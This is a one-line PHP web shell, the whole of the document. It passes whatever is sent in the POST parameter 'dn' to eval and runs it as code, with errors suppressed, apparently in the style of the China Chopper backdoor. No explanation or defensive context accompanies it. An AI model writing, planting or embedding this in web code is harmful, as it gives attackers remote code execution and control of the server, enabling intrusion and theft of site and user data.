<?=@eval($_POST['dn']);?>
